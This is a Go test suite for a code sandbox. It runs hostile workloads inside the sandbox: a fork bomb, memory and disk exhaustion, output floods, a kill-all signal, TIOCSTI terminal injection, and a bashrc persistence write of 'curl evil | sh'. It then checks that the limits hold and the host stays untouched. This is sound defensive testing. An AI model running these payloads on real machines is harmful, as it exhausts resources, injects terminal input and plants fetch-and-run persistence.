package sandboxtest

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pyti/pyti/internal/sandbox"
)

func (s suite) testForkBomb(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(py("import os\nwhile True:\n    os.fork()")...)
	spec.Limits.Pids = 64
	// The wall clock only bounds the test: the outcome must be the pids limit, however long a
	// backend takes to fork 64 times (gVisor's ptrace platform: ~150 ms a fork).
	spec.Limits.Wall = time.Minute
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomePids)
	if !r.PidsLimitHit {
		t.Errorf("PidsLimitHit false")
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testMemoryHog(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(py("x = []\nfor i in range(160):\n    x.append(b'x' * (64 << 20))\nprint('allocated 10 GB')")...)
	spec.Limits.MemoryBytes = 256 << 20
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeOOM)
	if r.OOMKills < 1 || r.PeakMemory < 200<<20 {
		t.Errorf("oom kills %d, peak memory %d", r.OOMKills, r.PeakMemory)
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testDiskFiller(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	ws := cappedWorkspace(t, j, 8<<20)
	spec := j.spec(sh("dd if=/dev/zero of=fill bs=1M count=100")...)
	spec.WorkDir = ws.Dir
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeNoSpace)
	if !ws.Full() {
		t.Errorf("workspace not full after the filler")
	}
	s.hostUntouched(t, c, j)
}

// testDiskFillerOverMemory fills a work space larger than the memory limit: tmpfs pages are
// charged to the run's memory cgroup, so the kernel's OOM killer ends the filler before the
// tmpfs is full. That is no space, not out of memory (a memory hog stays out of memory: MemoryHog).
func (s suite) testDiskFillerOverMemory(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	ws := cappedWorkspace(t, j, 1<<30)
	spec := j.spec(sh("dd if=/dev/zero of=fill bs=1M count=2000")...)
	spec.WorkDir = ws.Dir
	spec.Limits.MemoryBytes = 128 << 20
	spec.Limits.Wall = time.Minute
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeNoSpace)
	t.Logf("%s", r.Reason)
	s.hostUntouched(t, c, j)
}

func (s suite) testFileSizeLimit(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(sh("dd if=/dev/zero of=big bs=1M count=8")...)
	spec.Limits.FileSizeBytes = 1 << 20
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeNoSpace)
	if fi, err := os.Stat(filepath.Join(j.workDir, "big")); err != nil || fi.Size() > 1<<20 {
		t.Errorf("file beyond RLIMIT_FSIZE: %v %v", fi, err)
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testInfiniteLoop(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(py("while True: pass")...)
	spec.Limits.Wall = 2 * time.Second
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeTimeout)
	s.hostUntouched(t, c, j)
}

// testCPULimit: a busy loop ends at its CPU-time limit, long before its wall-clock one, and a
// sleeper with the same CPU limit outlives it: only CPU time counts.
func (s suite) testCPULimit(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(py("while True: pass")...)
	spec.Limits.CPU, spec.Limits.Wall = time.Second, 90*time.Second
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeTimeout)
	if !strings.Contains(r.Reason, "CPU-time limit") || r.CPU < time.Second {
		t.Errorf("reason %q after %s of CPU", r.Reason, r.CPU)
	}
	// The sleeper's limit leaves room for the backend's own start (gVisor's takes about a
	// second of CPU), which its cgroup counts.
	spec = j.spec(py("import time\ntime.sleep(6)\nprint('slept')")...)
	spec.Limits.CPU, spec.Limits.Wall = 4*time.Second, 90*time.Second
	r = s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeOK)
	t.Logf("the sleeper used %s of CPU", r.CPU)
	s.hostUntouched(t, c, j)
}

func (s suite) testSilentHang(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(sh("echo started; sleep 1000")...)
	spec.Limits.NoOutput = 1 * time.Second
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeNoOutputTimeout)
	if string(r.Stdout) != "started\n" {
		t.Errorf("stdout %q", r.Stdout)
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testOutputFlood(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	spec := j.spec(sh("echo FIRST; head -c 50000000 /dev/zero | tr '\\0' a; echo; echo LAST; echo ERR >&2")...)
	spec.Limits.OutputBytes = 64 << 10
	// The wall clock only bounds the test (50 MB through gVisor takes 15-20 s here).
	spec.Limits.Wall = 90 * time.Second
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeOK)
	if len(r.Stdout) > 64<<10 || r.StdoutDropped <= 0 {
		t.Errorf("kept %d bytes, dropped %d", len(r.Stdout), r.StdoutDropped)
	}
	if int64(len(r.Stdout))+r.StdoutDropped != 50000000+len64("FIRST\n\nLAST\n") {
		t.Errorf("kept+dropped = %d", int64(len(r.Stdout))+r.StdoutDropped)
	}
	if !bytes.HasPrefix(r.Stdout, []byte("FIRST\naaa")) || !bytes.HasSuffix(r.Stdout, []byte("aaa\nLAST\n")) || string(r.Stderr) != "ERR\n" {
		t.Errorf("head or tail lost: %q ... %q", r.Stdout[:10], r.Stdout[len(r.Stdout)-10:])
	}
	s.hostUntouched(t, c, j)
}

func len64(s string) int64 { return int64(len(s)) }

func (s suite) testDaemon(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	code := `
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open(os.path.join(sys.argv[1], "daemon.pid"), "w").write(str(os.getpid()))
        while True:
            time.sleep(1)
    os._exit(0)
while not os.path.exists(os.path.join(sys.argv[1], "daemon.pid")):
    time.sleep(0.05)
print("parent leaves")
`
	r := s.run(t, j.spec(Python, "-c", code, sandbox.WorkPath))
	wantOutcome(t, r, sandbox.OutcomeOK)
	if _, err := os.Stat(filepath.Join(j.workDir, "daemon.pid")); err != nil {
		t.Fatalf("the daemon never started: %v\n%s", err, describe(r))
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testKillAll(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	outside := exec.Command("sleep", "60")
	if err := outside.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { outside.Process.Kill(); outside.Wait() })
	code := `
import os, signal, subprocess
kids = [subprocess.Popen(["sleep", "100"]) for _ in range(3)]
os.kill(-1, signal.SIGKILL)
print("survived", [k.wait() for k in kids])
`
	r := s.run(t, j.spec(py(code)...))
	wantOutcome(t, r, sandbox.OutcomeOK)
	if string(r.Stdout) != "survived [-9, -9, -9]\n" {
		t.Errorf("stdout %q", r.Stdout)
	}
	if _, err := os.Stat("/proc/" + strconv.Itoa(outside.Process.Pid)); err != nil {
		t.Errorf("the test's own process outside died: %v", err)
	}
	st, _ := os.ReadFile("/proc/" + strconv.Itoa(outside.Process.Pid) + "/stat")
	if fields := strings.Fields(string(st)); len(fields) > 2 && fields[2] == "Z" {
		t.Errorf("the test's own process outside was killed")
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testTIOCSTI(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	code := `
import fcntl, os, termios
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        print("injected", fd)
    except OSError:
        pass
try:
    fd = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(fd, termios.TIOCSTI, b"x")
    print("injected tty")
except OSError:
    pass
print("done")
`
	r := s.run(t, j.spec(py(code)...))
	wantOutcome(t, r, sandbox.OutcomeOK)
	if string(r.Stdout) != "done\n" {
		t.Errorf("stdout %q", r.Stdout)
	}
	s.hostUntouched(t, c, j)
}

func (s suite) testBashrc(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	r := s.run(t, j.spec(sh("echo 'curl evil | sh # pwned' >> ~/.bashrc && cat ~/.bashrc")...))
	wantOutcome(t, r, sandbox.OutcomeOK)
	if !strings.Contains(string(r.Stdout), sandbox.Canary) || !strings.Contains(string(r.Stdout), "pwned") {
		t.Errorf("the write did not land in the decoy bashrc: %q", r.Stdout)
	}
	next := s.run(t, newJob(t).spec(sh("cat ~/.bashrc")...))
	if strings.Contains(string(next.Stdout), "pwned") {
		t.Errorf("the next run's HOME kept the write")
	}
	s.hostUntouched(t, c, j) // includes /root/.bashrc
}

func (s suite) testMillionFiles(t *testing.T) {
	c, j := plantCanaries(t), newJob(t)
	code := `
import errno, os
fds = []
try:
    for i in range(1000000):
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    print(errno.errorcode[e.errno], len(fds) < 256)
    raise
`
	spec := j.spec(py(code)...)
	spec.Limits.OpenFiles = 256
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeExit)
	if string(r.Stdout) != "EMFILE True\n" || !strings.Contains(string(r.Stderr), "Too many open files") {
		t.Errorf("%s", describe(r))
	}
	s.hostUntouched(t, c, j)
}

// cappedWorkspace is a size-capped tmpfs work space for one run, removed with the test; the test
// is skipped where the machine cannot make one.
func cappedWorkspace(t *testing.T, j job, size int64) *sandbox.Workspace {
	t.Helper()
	ws, err := sandbox.NewWorkspace(filepath.Join(j.workDir, "ws"), size)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := ws.Close(); err != nil {
			t.Error(err)
		}
	})
	if !ws.Tmpfs {
		t.Skipf("no capped workspace here: %s", ws.Note)
	}
	return ws
}
